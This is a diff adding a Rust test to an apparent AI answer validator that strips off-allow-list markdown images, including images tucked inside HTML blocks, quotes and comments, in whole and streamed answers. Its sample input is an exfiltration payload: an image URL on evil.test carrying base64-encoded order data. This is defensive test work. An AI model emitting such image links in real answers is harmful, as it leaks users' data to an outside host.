@@ -714,6 +714,41 @@ fn a_fence_left_open_at_the_end_is_closed() {
     assert_eq!(ids(c.findings()), ["link.image_off_allowlist"]);
 }
 
+/// Markdown in HTML is rendered by some renderers: Python-Markdown's `extra`
+/// renders a block with `markdown="1"`, and reads a tag inside a quote or a list
+/// item, or text after a comment on its line, as inline HTML in a paragraph
+/// (checked with Python-Markdown 3.11.3). The text of an HTML block is judged as
+/// markdown too; what the allow-list allows stays.
+#[test]
+fn markdown_inside_html_blocks_is_judged() {
+    let (g, _) = guard_with(
+        AnswerValidator::builder()
+            .allow_hosts(["docs.example.com"])
+            .build()
+            .unwrap(),
+        |_| {},
+    );
+    let image = "![s](https://evil.test/p.png?d=T3JkZXIgNDQyMSBzaGlwcGVk)";
+    for (answer, out) in [
+        (format!("<div markdown=\"1\">\n{image}\n</div>"), "<div markdown=\"1\">\ns\n</div>".to_owned()),
+        (format!("> <p>{image}</p>"), "> <p>s</p>".to_owned()),
+        (format!("<!-- -->{image}\n\nafter"), "<!-- -->s\n\nafter".to_owned()),
+        (
+            "<div>\n<img src=\"https://docs.example.com/a.png\">\n[x](https://docs.example.com/a) ![d](https://docs.example.com/d.png)\n</div>".to_owned(),
+            "<div>\n<img src=\"https://docs.example.com/a.png\">\n[x](https://docs.example.com/a) ![d](https://docs.example.com/d.png)\n</div>".to_owned(),
+        ),
+    ] {
+        assert_eq!(whole_outcome(&g, request(None), &answer).unwrap(), out);
+        let chunks: Vec<&str> = answer
+            .as_bytes()
+            .chunks(5)
+            .map(|c| std::str::from_utf8(c).unwrap())
+            .collect();
+        assert_eq!(stream_outcome(&g, request(None), &chunks).unwrap(), out);
+        released_validates_clean(&g, &answer);
+    }
+}
+
 /// Python-Markdown (and the renderers built on it) reads fenced code only at the
 /// top level, from the start of a line, with a one-word info string, up to the
 /// same fence; anywhere else its fences are text and the images between them load
